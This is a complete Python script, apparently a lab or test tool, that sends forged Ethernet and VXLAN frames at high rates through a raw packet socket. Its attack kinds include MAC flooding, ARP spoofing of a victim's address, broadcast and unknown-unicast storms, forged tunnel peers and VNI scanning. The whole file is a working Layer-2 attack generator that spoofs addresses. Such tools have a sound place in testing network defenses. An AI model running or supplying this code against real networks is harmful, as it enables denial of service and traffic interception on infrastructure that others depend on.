"""Frames of an attacker, at a rate, for a while: `attack.py KIND DEVICE --rate N --seconds S`.

They leave through a packet socket, so that any address may be forged. Prints how many left.
"""

import argparse
import os
import socket
import struct
import time
from collections.abc import Callable

BATCH = 100
ETH_P_ALL = 0x0003
BROADCAST = b"\xff" * 6


def checksum(octets: bytes) -> int:
    """RFC 1071."""
    total = sum(struct.unpack(f"!{len(octets) // 2}H", octets))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return total ^ 0xFFFF


def station() -> bytes:
    """A MAC that nobody has."""
    return b"\x02" + os.urandom(5)


def inner(destination: bytes, source: bytes) -> bytes:
    """A frame of IEEE's experimental ethertype."""
    return destination + source + b"\x88\xb5" + bytes(46)


def spoofed_arp(mac: bytes, victim: str) -> bytes:
    """A claim to somebody else's address."""
    ip = socket.inet_aton(victim)
    arp = struct.pack("!HHBBH6s4s6s4s", 1, 0x0800, 6, 4, 2, mac, ip, BROADCAST, ip)
    return BROADCAST + mac + b"\x08\x06" + arp + bytes(18)


def outer(options: argparse.Namespace, payload: bytes) -> bytes:
    """A frame of the underlay around a VXLAN payload."""
    udp = struct.pack("!HHHH", 50_000, 4789, 8 + len(payload), 0) + payload
    addresses = socket.inet_aton(options.source) + socket.inet_aton(options.target)
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0) + addresses
    head = head[:10] + struct.pack("!H", checksum(head)) + head[12:]
    return options.target_mac + options.own_mac + b"\x08\x00" + head + udp


def header(vni: int) -> bytes:
    """VXLAN's."""
    return b"\x08\0\0\0" + vni.to_bytes(3, "big") + b"\0"


def makers(options: argparse.Namespace) -> dict[str, Callable[[], bytes]]:
    """The kinds of attack, and how a frame of each is made."""

    def tunnelled(frame: bytes, vni: int | None = None) -> bytes:
        return outer(options, header(options.vni if vni is None else vni) + frame)

    return {
        "strangers": lambda: tunnelled(inner(BROADCAST, station())),
        "vni-scan": lambda: tunnelled(
            inner(BROADCAST, station()), int.from_bytes(os.urandom(3), "big")
        ),
        "nonsense": lambda: outer(options, os.urandom(60)),
        "forged-peer": lambda: tunnelled(inner(station(), station())),
        "mac-flood": lambda: inner(BROADCAST, station()),
        "arp-spoofing": lambda: spoofed_arp(options.own_mac, options.victim),
        "broadcast-storm": lambda: inner(BROADCAST, options.own_mac),
        "unknown-unicast": lambda: inner(station(), options.own_mac),
    }


def main() -> None:
    """Attack."""
    parser = argparse.ArgumentParser(description=(__doc__ or "").partition("\n")[0])
    parser.add_argument("kind")
    parser.add_argument("device")
    parser.add_argument("--rate", type=int, default=20_000)
    parser.add_argument("--seconds", type=float, default=4.0)
    parser.add_argument("--vni", type=int, default=0)
    parser.add_argument("--source", default="192.0.2.3")
    parser.add_argument("--target", default="192.0.2.1")
    parser.add_argument("--victim", default="10.42.0.1")
    parser.add_argument("--target-mac", type=bytes.fromhex, default=bytes(6))
    options = parser.parse_args()
    sent = 0
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL)) as out:
        out.bind((options.device, 0))
        options.own_mac = out.getsockname()[4]
        make = makers(options)[options.kind]
        frames = [make() for _ in range(5_000)]  # made before, so that making costs nothing now
        began = time.monotonic()
        while (passed := time.monotonic() - began) < options.seconds:
            if sent > passed * options.rate:
                time.sleep(BATCH / options.rate)
                continue
            for _ in range(BATCH):
                try:
                    out.send(frames[sent % len(frames)])
                except OSError:  # the device is full
                    time.sleep(0.001)
                sent += 1
    print(sent)


if __name__ == "__main__":
    main()
